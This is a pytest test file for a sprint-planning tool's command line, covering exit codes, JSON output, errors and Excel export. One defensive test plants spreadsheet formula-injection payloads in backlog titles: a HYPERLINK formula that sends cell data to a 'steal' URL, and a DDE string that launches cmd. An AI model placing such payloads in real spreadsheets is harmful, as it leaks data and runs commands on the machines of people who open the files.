"""The command line of SPEC section 3: flags, exit status, the one JSON object, the report, --out."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from conftest import REPO, write_xlsx

from planner import cli
from planner.cli import main
from planner.ingest import read_backlog, read_capacity

SAMPLE_BACKLOG = REPO / "data" / "sample_backlog.xlsx"
SAMPLE_CAPACITY = REPO / "data" / "sample_capacity.xlsx"
JSON_KEYS = {
    "status",
    "objective",
    "bound",
    "gap",
    "baseline_objective",
    "selected",
    "excluded",
    "capacity",
    "seconds",
    "message",
}
SAMPLE = ["plan", "--backlog", str(SAMPLE_BACKLOG), "--capacity", str(SAMPLE_CAPACITY)]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def one_json(stdout: str) -> dict:
    """stdout holds exactly one JSON object (json.loads refuses anything more)."""
    payload = json.loads(stdout)
    assert isinstance(payload, dict)
    assert stdout.strip().count("\n") == 0
    return payload


def write_csv(path: Path, rows: list[list[object]]) -> Path:
    import csv

    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def tiny_capacity(folder: Path, days: float = 10, teams: tuple[str, ...] = ("pod-a",)) -> Path:
    """One person per team with ``days`` per sprint, one sprint of 10 working days."""
    return write_xlsx(
        folder / "capacity.xlsx",
        {
            "people": [["name", "team", "days_per_sprint"], *[[f"Dev {t}", t, days] for t in teams]],
            "sprints": [["sprint", "start", "end"], ["Sprint 1", "2026-01-05", "2026-01-16"]],
        },
    )


# --------------------------------------------------------------------------------------------------
# The sample


@pytest.fixture(scope="module")
def sample_ids() -> list[str]:
    return [str(item_id) for item_id in read_backlog(SAMPLE_BACKLOG).table["id"]]


@pytest.fixture(scope="module")
def sample_sprints() -> list[str]:
    return [str(name) for name in read_capacity(SAMPLE_CAPACITY).tables.sprints["sprint"]]


@pytest.fixture(scope="module")
def sample_teams() -> set[str]:
    return {str(team) for team in read_capacity(SAMPLE_CAPACITY).tables.people["team"]}


def check_plan(payload: dict, ids: list[str], sprints: list[str], teams: set[str]) -> None:
    assert set(payload) == JSON_KEYS
    assert payload["status"] in ("optimal", "feasible")
    selected = [row["id"] for row in payload["selected"]]
    excluded = [row["id"] for row in payload["excluded"]]
    assert sorted(selected + excluded) == sorted(ids), "every backlog item is in exactly one list"
    assert set(selected).isdisjoint(excluded)
    assert all(set(row) == {"id", "team", "sprint"} for row in payload["selected"])
    assert all(set(row) == {"id", "reason"} and row["reason"] for row in payload["excluded"])
    assert {row["sprint"] for row in payload["selected"]} <= set(sprints)
    assert {row["team"] for row in payload["selected"]} <= teams
    totals = [(row["team"], row["sprint"]) for row in payload["capacity"] if row["skill"] is None]
    assert sorted(totals) == sorted((team, sprint) for team in teams for sprint in sprints)
    for row in payload["capacity"]:
        assert set(row) == {"team", "sprint", "skill", "capacity", "load"}
        assert row["capacity"] >= 0 and row["load"] >= 0
        assert row["load"] <= row["capacity"] + 1e-6
    assert payload["objective"] >= payload["baseline_objective"] - 1e-6
    assert payload["bound"] >= payload["objective"] - 1e-6
    assert 0 <= payload["gap"] < 1
    assert payload["seconds"] >= 0


def test_sample_json(capsys, sample_ids, sample_sprints, sample_teams):
    code, out, err = run(capsys, *SAMPLE, "--json")
    assert code == 0, err
    payload = one_json(out)
    check_plan(payload, sample_ids, sample_sprints[:1], sample_teams)
    assert payload["status"] == "optimal"
    assert payload["objective"] > 0
    assert "warning:" in err  # the sample has unestimated items: warned on stderr, never stdout


def test_sample_objective_is_the_sum_of_the_selected_values(capsys):
    code, out, _ = run(capsys, *SAMPLE, "--json")
    assert code == 0
    payload = one_json(out)
    values = dict(
        zip(read_backlog(SAMPLE_BACKLOG).table["id"].astype(str), read_backlog(SAMPLE_BACKLOG).table["value"])
    )
    assert payload["objective"] == pytest.approx(sum(values[row["id"]] for row in payload["selected"]))


def test_three_sprints(capsys, sample_ids, sample_sprints, sample_teams):
    # CBC may not prove optimality of three sprints quickly: a feasible plan is a plan (exit 0).
    code, out, err = run(capsys, *SAMPLE, "--sprints", "3", "--time-limit", "10", "--json")
    assert code == 0, err
    payload = one_json(out)
    check_plan(payload, sample_ids, sample_sprints[:3], sample_teams)
    assert len({row["sprint"] for row in payload["selected"]}) > 1


def test_readable_report(capsys):
    code, out, err = run(capsys, *SAMPLE)
    assert code == 0, err
    assert not out.lstrip().startswith("{")
    assert "Plan: optimal" in out
    assert "Value rule: WSJF" in out
    assert "Rank-and-fill:" in out and "gain" in out
    assert "Bound:" in out and "gap" in out
    assert "Planned items" in out and "Not planned" in out and "Capacity (days)" in out
    assert "capacity (" in out  # excluded items grouped by reason, with counts
    assert "warning:" not in out and "warning:" in err
    for line in out.splitlines():
        assert len(line) < 400


def test_report_shows_baseline_and_gain_numbers(capsys):
    code, out, _ = run(capsys, *SAMPLE, "--json")
    payload = one_json(out)
    code, report, _ = run(capsys, *SAMPLE)
    assert code == 0
    baseline = cli._number(payload["baseline_objective"])
    assert f"Rank-and-fill:  {baseline}" in report
    assert f"Planned value:  {cli._number(payload['objective'])}" in report


def test_verbose_lists_more(capsys):
    _, short, _ = run(capsys, *SAMPLE)
    code, full, _ = run(capsys, *SAMPLE, "--verbose")
    assert code == 0
    assert len(full.splitlines()) > len(short.splitlines())
    assert "more (--verbose lists them)" in short and "more (--verbose" not in full


def test_focus_factor_default_is_the_teams_sheet(capsys):
    """No --focus-factor: each team's focus factor from the teams sheet; --focus-factor 1 overrides it."""
    _, out, _ = run(capsys, *SAMPLE, "--json")
    from_sheet = {row["team"]: row["capacity"] for row in one_json(out)["capacity"] if row["skill"] is None}
    _, out, _ = run(capsys, *SAMPLE, "--json", "--focus-factor", "1")
    full = {row["team"]: row["capacity"] for row in one_json(out)["capacity"] if row["skill"] is None}
    teams = read_capacity(SAMPLE_CAPACITY).tables.teams
    for team, factor in zip(teams["team"], teams["focus_factor"]):
        assert from_sheet[team] == pytest.approx(full[team] * factor)
    _, out, _ = run(capsys, *SAMPLE, "--json", "--buffer", "0.5")
    halved = {row["team"]: row["capacity"] for row in one_json(out)["capacity"] if row["skill"] is None}
    assert halved == pytest.approx({team: days / 2 for team, days in from_sheet.items()})


def test_help_names_the_defaults(capsys):
    code, out, _ = run(capsys, "plan", "--help")
    assert code == 0
    for text in (
        "--backlog",
        "--capacity",
        "--sprints",
        "(default: 1)",
        "(default: 30)",
        "(default: 0.0001)",
        "(default: days)",
        "teams sheet",
    ):
        assert text in out


# --------------------------------------------------------------------------------------------------
# Bad input: exit 2, located messages


def test_duplicate_id_and_negative_effort(capsys, tmp_path):
    backlog = write_csv(
        tmp_path / "backlog.csv",
        [
            ["id", "title", "team", "effort"],
            ["A-1", "First", "pod-a", 2],
            ["A-1", "Again", "pod-a", 1],
            ["A-3", "Negative", "pod-a", -4],
        ],
    )
    capacity = tiny_capacity(tmp_path)
    code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(capacity))
    assert code == 2
    assert out == ""
    assert "error: backlog.csv, row 3, column 'id': id 'A-1' is used again" in err
    assert "error: backlog.csv, row 4, column 'effort':" in err and "negative" in err

    code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(capacity), "--json")
    assert code == 2
    payload = one_json(out)
    assert set(payload) == JSON_KEYS
    assert payload["status"] == "error"
    assert "backlog.csv, row 3, column 'id'" in payload["message"]
    assert "backlog.csv, row 4, column 'effort'" in payload["message"]
    assert payload["selected"] == payload["excluded"] == payload["capacity"] == []
    assert payload["objective"] is None and payload["bound"] is None and payload["baseline_objective"] is None


def test_capacity_error_names_sheet_row_column(capsys, tmp_path):
    backlog = write_csv(tmp_path / "backlog.csv", [["id", "title", "effort"], ["A-1", "One", 1]])
    capacity = write_xlsx(
        tmp_path / "capacity.xlsx",
        {
            "people": [["name", "team", "allocation"], ["Ada", "pod-a", 1], ["Bob", "pod-a", "150%"]],
        },
    )
    code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(capacity), "--json")
    assert code == 2
    assert one_json(out)["status"] == "error"
    assert "error: capacity.xlsx, sheet people, row 3, column 'allocation'" in err


def test_missing_file(capsys, tmp_path):
    code, out, err = run(
        capsys, "plan", "--backlog", str(tmp_path / "nope.csv"), "--capacity", str(tiny_capacity(tmp_path))
    )
    assert code == 2 and out == ""
    assert "error: nope.csv: cannot open the file" in err


@pytest.mark.parametrize(
    ("flags", "named"),
    [
        (["--buffer", "2"], "--buffer"),
        (["--focus-factor", "0"], "--focus-factor"),
        (["--oncall-load", "-1"], "--oncall-load"),
        (["--sprints", "0"], "--sprints"),
        (["--gap", "1.5"], "gap"),
        (["--time-limit", "0"], "time limit"),
        (["--solver", "gurobi"], "--solver"),
        (["--sprints", "two"], "--sprints"),
        (["--out", "plan.csv"], "--out"),
        (["--keep-within", "1"], "--keep-within"),
        (["--keep-within", "-0.1"], "--keep-within"),
        (["--keep-within", "nan"], "--keep-within"),
    ],
)
def test_bad_flags(capsys, tmp_path, flags, named):
    code, out, err = run(capsys, *SAMPLE, *flags)
    assert code == 2, err
    assert out == ""
    assert named in err
    assert "Traceback" not in err
    code, out, _ = run(capsys, *SAMPLE, *flags, "--json")
    assert code == 2
    payload = one_json(out)
    assert payload["status"] == "error" and named in payload["message"]


def test_missing_arguments(capsys):
    code, out, err = run(capsys)
    assert code == 2 and out == "" and "usage:" in err
    code, out, err = run(capsys, "plan", "--json", "--backlog", "x.csv")
    assert code == 2
    assert "--capacity" in one_json(out)["message"]


def test_out_never_overwrites_an_input(capsys, tmp_path):
    copy = tmp_path / "capacity.xlsx"
    copy.write_bytes(SAMPLE_CAPACITY.read_bytes())
    code, _, err = run(capsys, "plan", "--backlog", str(SAMPLE_BACKLOG), "--capacity", str(copy), "--out", str(copy))
    assert code == 2 and "overwrite" in err
    assert copy.read_bytes() == SAMPLE_CAPACITY.read_bytes()


# --------------------------------------------------------------------------------------------------
# Infeasible: exit 3


def test_infeasible_must_items(capsys, tmp_path):
    backlog = write_csv(
        tmp_path / "backlog.csv",
        [
            ["id", "title", "team", "effort", "moscow"],
            ["M-1", "First must", "pod-a", 6, "Must"],
            ["M-2", "Second must", "pod-a", 6, "Must"],
            ["C-1", "A could", "pod-a", 1, "Could"],
        ],
    )
    capacity = tiny_capacity(tmp_path, days=10)
    argv = ["plan", "--backlog", str(backlog), "--capacity", str(capacity)]
    code, out, err = run(capsys, *argv)
    assert code == 3
    assert out == ""
    assert "infeasible:" in err
    for text in ("M-1", "M-2", "pod-a", "Sprint 1", "12", "10"):
        assert text in err

    code, out, err = run(capsys, *argv, "--json")
    assert code == 3
    payload = one_json(out)
    assert set(payload) == JSON_KEYS
    assert payload["status"] == "infeasible"
    for text in ("M-1", "M-2", "pod-a", "Sprint 1"):
        assert text in payload["message"]
    assert payload["selected"] == []
    # SPEC 3: every item is in exactly one list, also without a plan; the Musts that overflow are out
    # for capacity.
    assert {row["id"]: row["reason"] for row in payload["excluded"]} == {
        "M-1": "capacity",
        "M-2": "capacity",
        "C-1": "capacity",
    }


def test_infeasible_plan_lists_settled_items_with_their_own_reason(capsys, tmp_path):
    backlog = write_csv(
        tmp_path / "backlog.csv",
        [
            ["id", "title", "team", "effort", "moscow", "status"],
            ["M-1", "First must", "pod-a", 6, "Must", "To Do"],
            ["M-2", "Second must", "pod-a", 6, "Must", "To Do"],
            ["D-1", "Done already", "pod-a", 1, "Should", "Done"],
            ["W-1", "Not this time", "pod-a", 1, "Won't", "To Do"],
        ],
    )
    argv = ["plan", "--backlog", str(backlog), "--capacity", str(tiny_capacity(tmp_path, days=10)), "--json"]
    code, out, _ = run(capsys, *argv)
    payload = one_json(out)
    assert code == 3 and payload["status"] == "infeasible"
    reasons = {row["id"]: row["reason"] for row in payload["excluded"]}
    assert reasons == {"M-1": "capacity", "M-2": "capacity", "D-1": "done", "W-1": "wont"}


def test_must_items_that_fit_are_planned(capsys, tmp_path):
    backlog = write_csv(
        tmp_path / "backlog.csv",
        [
            ["id", "title", "team", "effort", "moscow", "value"],
            ["M-1", "First must", "pod-a", 6, "Must", 1],
            ["C-1", "A could", "pod-a", 4, "Could", 50],
            ["C-2", "Another could", "pod-a", 5, "Could", 60],
        ],
    )
    code, out, err = run(
        capsys, "plan", "--backlog", str(backlog), "--capacity", str(tiny_capacity(tmp_path)), "--json"
    )
    assert code == 0, err
    payload = one_json(out)
    assert payload["status"] == "optimal"
    assert {row["id"] for row in payload["selected"]} == {"M-1", "C-1"}
    assert payload["objective"] == pytest.approx(51)
    assert payload["excluded"] == [{"id": "C-2", "reason": "capacity"}]


# --------------------------------------------------------------------------------------------------
# Capacity as CSV files


def test_capacity_as_csv_files_or_a_folder(capsys, tmp_path):
    backlog = write_csv(
        tmp_path / "backlog.csv",
        [
            ["id", "title", "effort", "value"],
            ["A-1", "One", 3, 10],
            ["A-2", "Two", 3, 9],
            ["A-3", "Three", 3, 8],
        ],
    )
    folder = tmp_path / "capacity"
    folder.mkdir()
    people = write_csv(folder / "people.csv", [["name", "team", "days_per_sprint"], ["Ada", "pod-a", 6]])
    sprints = write_csv(
        folder / "sprints.csv",
        [
            ["sprint", "start", "end"],
            ["S1", "2026-01-05", "2026-01-16"],
            ["S2", "2026-01-19", "2026-01-30"],
        ],
    )
    code, out, err = run(
        capsys,
        "plan",
        "--backlog",
        str(backlog),
        "--capacity",
        str(people),
        "--capacity",
        str(sprints),
        "--sprints",
        "2",
        "--json",
    )
    assert code == 0, err
    by_files = one_json(out)
    assert {row["sprint"] for row in by_files["selected"]} == {"S1", "S2"}
    assert by_files["objective"] == pytest.approx(27)
    code, out, err = run(
        capsys, "plan", "--backlog", str(backlog), "--capacity", str(folder), "--sprints", "2", "--json"
    )
    assert code == 0, err
    by_folder = one_json(out)
    assert by_folder["selected"] == by_files["selected"]
    # A capacity engine warning names the CSV it comes from, not a made-up name.
    assert "sprints.csv, row 2" in err


def test_empty_capacity_folder(capsys, tmp_path):
    backlog = write_csv(tmp_path / "backlog.csv", [["id", "title", "effort"], ["A-1", "One", 1]])
    (tmp_path / "empty").mkdir()
    code, _, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(tmp_path / "empty"))
    assert code == 2 and "no CSV" in err


# --------------------------------------------------------------------------------------------------
# --out


def test_out_workbook_keeps_formulas_as_text(capsys, tmp_path):
    link = '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'
    backlog = write_csv(
        tmp_path / "backlog.csv",
        [
            ["id", "title", "team", "effort", "value"],
            ["A-1", link, "pod-a", 2, 10],
            ["@A-2", "+cmd|' /C calc'!A0", "pod-a", 2, 9],
            ["A-3", "-2+3", "pod-a", 20, 8],
        ],
    )
    out_path = tmp_path / "plan.xlsx"
    code, out, err = run(
        capsys,
        "plan",
        "--backlog",
        str(backlog),
        "--capacity",
        str(tiny_capacity(tmp_path)),
        "--out",
        str(out_path),
        "--json",
    )
    assert code == 0, err
    payload = one_json(out)
    assert {row["id"] for row in payload["selected"]} == {"A-1", "@A-2"}

    workbook = openpyxl.load_workbook(out_path)
    assert workbook.sheetnames == ["Plan", "Summary", "Not planned", "Capacity", "Refinement", "pod-a"]
    plan = workbook["Plan"]
    headers = [cell.value for cell in plan[1]]
    assert headers[:4] == ["sprint", "team", "id", "title"]
    column = {header: position for position, header in enumerate(headers)}
    rows = {row[column["id"]].value: row for row in plan.iter_rows(min_row=2)}
    assert set(rows) == {"A-1", "@A-2"}
    title = rows["A-1"][column["title"]]
    assert title.value == link and title.data_type == "s"
    assert rows["@A-2"][column["id"]].data_type == "s"
    assert rows["@A-2"][column["title"]].value == "+cmd|' /C calc'!A0"
    assert rows["@A-2"][column["title"]].data_type == "s"
    assert rows["A-1"][column["sprint"]].value == "Sprint 1" and rows["A-1"][column["team"]].value == "pod-a"
    assert rows["A-1"][column["value"]].value == 10 and rows["A-1"][column["effort"]].value == 2
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"

    left_out = [[cell.value for cell in row] for row in workbook["Not planned"].iter_rows()]
    assert left_out[0][:4] == ["id", "title", "team", "reason"]
    assert left_out[1][:4] == ["A-3", "-2+3", "pod-a", "too-big"]
    summary = [[cell.value for cell in row] for row in workbook["Summary"].iter_rows()]
    header = next(i for i, row in enumerate(summary) if row[:2] == ["team", "sprint"])
    assert summary[header + 1][:2] == ["pod-a", "Sprint 1"]
    assert summary[header + 1][4:7] == [10, 4, 6]  # capacity, load, slack


def test_out_report_mentions_the_file(capsys, tmp_path):
    out_path = tmp_path / "sample plan.xlsx"
    code, out, err = run(capsys, *SAMPLE, "--out", str(out_path))
    assert code == 0, err
    assert str(out_path) in out
    workbook = openpyxl.load_workbook(out_path, read_only=True)
    plan_ids = [row[2] for row in workbook["Plan"].iter_rows(min_row=2, values_only=True)]
    excluded_ids = [row[0] for row in workbook["Not planned"].iter_rows(min_row=2, values_only=True)]
    ids = [str(item_id) for item_id in read_backlog(SAMPLE_BACKLOG).table["id"]]
    assert sorted(plan_ids + excluded_ids) == sorted(ids)
    workbook.close()
    assert not [p for p in tmp_path.iterdir() if p.name != out_path.name], "no temporary file left behind"


# --------------------------------------------------------------------------------------------------
# Failures: exit 1, one line


def test_unexpected_failure_is_one_line(capsys, monkeypatch):
    def boom(*args, **kwargs):
        raise RuntimeError("solver exploded\nsecond line")

    monkeypatch.setattr(cli, "make_plan", boom)
    monkeypatch.delenv("PLANNER_DEBUG", raising=False)
    code, out, err = run(capsys, *SAMPLE)
    assert code == 1
    assert out == ""
    assert "error: unexpected RuntimeError: solver exploded" in err
    assert "Traceback" not in err and "second line" not in err

    code, out, err = run(capsys, *SAMPLE, "--json")
    assert code == 1
    payload = one_json(out)
    assert payload["status"] == "error" and "solver exploded" in payload["message"]

    monkeypatch.setenv("PLANNER_DEBUG", "1")
    code, _, err = run(capsys, *SAMPLE)
    assert code == 1 and "Traceback" in err


def test_error_status_of_the_library_exits_1(capsys, monkeypatch):
    import dataclasses

    from planner.solve.plan import make_plan as real_make_plan

    def failing(*args, **kwargs):
        result = real_make_plan(*args, **kwargs)
        return dataclasses.replace(result, status="error", message="no plan was found within the time limit")

    monkeypatch.setattr(cli, "make_plan", failing)
    code, out, err = run(capsys, *SAMPLE, "--json")
    assert code == 1
    payload = one_json(out)
    assert payload["status"] == "error" and payload["message"] == "no plan was found within the time limit"
    assert "error: no plan was found within the time limit" in err


# --------------------------------------------------------------------------------------------------
# As a program


def test_module_subprocess_prints_one_json_object(tmp_path):
    completed = subprocess.run(
        [sys.executable, "-m", "planner.cli", *SAMPLE, "--json"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert completed.returncode == 0, completed.stderr
    payload = json.loads(completed.stdout)
    assert set(payload) == JSON_KEYS and payload["status"] == "optimal"
    assert completed.stdout.count("\n") == 1 and completed.stdout.endswith("}\n")
    assert "warning:" in completed.stderr


def test_highs_keeps_stdout_clean(tmp_path):
    pytest.importorskip("highspy")
    completed = subprocess.run(
        [sys.executable, "-m", "planner.cli", *SAMPLE, "--json", "--solver", "highs"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert completed.returncode == 0, completed.stderr
    payload = json.loads(completed.stdout)
    assert payload["status"] == "optimal"
    assert completed.stdout.count("\n") == 1


def test_infeasible_subprocess_exit_status(tmp_path):
    backlog = write_csv(
        tmp_path / "backlog.csv",
        [
            ["id", "title", "effort", "moscow"],
            ["M-1", "Too much", 30, "Must"],
            ["M-2", "Fits", 1, "Must"],
        ],
    )
    completed = subprocess.run(
        [
            sys.executable,
            "-m",
            "planner.cli",
            "plan",
            "--backlog",
            str(backlog),
            "--capacity",
            str(tiny_capacity(tmp_path)),
            "--json",
        ],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert completed.returncode == 3, completed.stderr
    payload = json.loads(completed.stdout)
    assert payload["status"] == "infeasible" and "M-1" in payload["message"]


# --- re-planning against a previous plan (--previous, --keep-within) ---------------------------------


def test_previous_json_round_trip_with_unchanged_inputs_changes_nothing(capsys, tmp_path):
    code, out, err = run(capsys, *SAMPLE, "--gap", "0", "--json")
    assert code == 0, err
    first = one_json(out)
    assert "changes" not in first and "free_objective" not in first  # only with --previous
    previous = tmp_path / "previous.json"
    previous.write_text(out, encoding="utf-8")
    code, out, err = run(capsys, *SAMPLE, "--gap", "0", "--previous", str(previous), "--json")
    assert code == 0, err
    again = one_json(out)
    assert set(again) == JSON_KEYS | {"changes", "free_objective"}
    assert again["changes"] == {"entered": 0, "left": 0, "moved": 0}
    assert again["objective"] == first["objective"]
    assert again["free_objective"] == pytest.approx(first["objective"])
    assert sorted(map(str, again["selected"])) == sorted(map(str, first["selected"]))


def test_previous_workbook_and_the_report_line(capsys, tmp_path):
    workbook = tmp_path / "plan.xlsx"
    code, _, err = run(capsys, *SAMPLE, "--gap", "0", "--out", str(workbook))
    assert code == 0, err
    code, out, err = run(capsys, *SAMPLE, "--gap", "0", "--previous", str(workbook), "--keep-within", "0.01")
    assert code == 0, err
    line = next(line for line in out.splitlines() if "stable plan:" in line)
    assert ", 0 changes; free re-plan: value " in line


@pytest.mark.parametrize("content", [None, "not json", '{"selected": 3}', '{"selected": [{"id": "X"}]}'])
def test_previous_missing_or_unreadable_is_bad_input_naming_the_file(capsys, tmp_path, content):
    previous = tmp_path / "earlier.json"
    if content is not None:
        previous.write_text(content, encoding="utf-8")
    code, out, err = run(capsys, *SAMPLE, "--previous", str(previous))
    assert code == 2, err
    assert out == ""
    assert "earlier.json" in err and "Traceback" not in err
    code, out, _ = run(capsys, *SAMPLE, "--previous", str(previous), "--json")
    assert code == 2 and "earlier.json" in one_json(out)["message"]


# --------------------------------------------------------------------------------------------------
# Tracker sprint values and --out, as the app treats and writes them (issue 13)


def test_tracker_sprint_values_are_treated_and_said_once_per_value(capsys, tmp_path):
    from test_tracker_exports import TRACKERS, capacity_workbook

    capacity = capacity_workbook(tmp_path / "capacity.xlsx")
    out_path = tmp_path / "plan.xlsx"
    argv = ["plan", "--backlog", str(TRACKERS / "ado.csv"), "--capacity", str(capacity), "--sprints", "3"]
    code, out, err = run(capsys, *argv, "--unit", "points", "--json", "--out", str(out_path))
    assert code == 0, err
    payload = one_json(out)
    reasons = [row["reason"] for row in payload["excluded"]]
    # The project root means "no sprint": nothing is settled as pinned to it.
    assert not [reason for reason in reasons if reason == "pinned-later Care"]
    assert sum(reason.startswith("pinned-later") for reason in reasons) == 2  # the two items of Sprint 47
    assert len(payload["selected"]) == 12
    # One warning per sprint value that is none of the capacity file's sprints, naming the value.
    assert (
        sum(
            "sprint 'Care', which is not one of your sprints: treated as unscheduled" in line
            for line in err.splitlines()
        )
        == 1
    )
    assert sum("which is not one of your sprints: treated as carry-over" in line for line in err.splitlines()) == 1
    # --out writes the Export page's workbook: the Refinement sheet included.
    assert "Refinement" in openpyxl.load_workbook(out_path, read_only=True).sheetnames
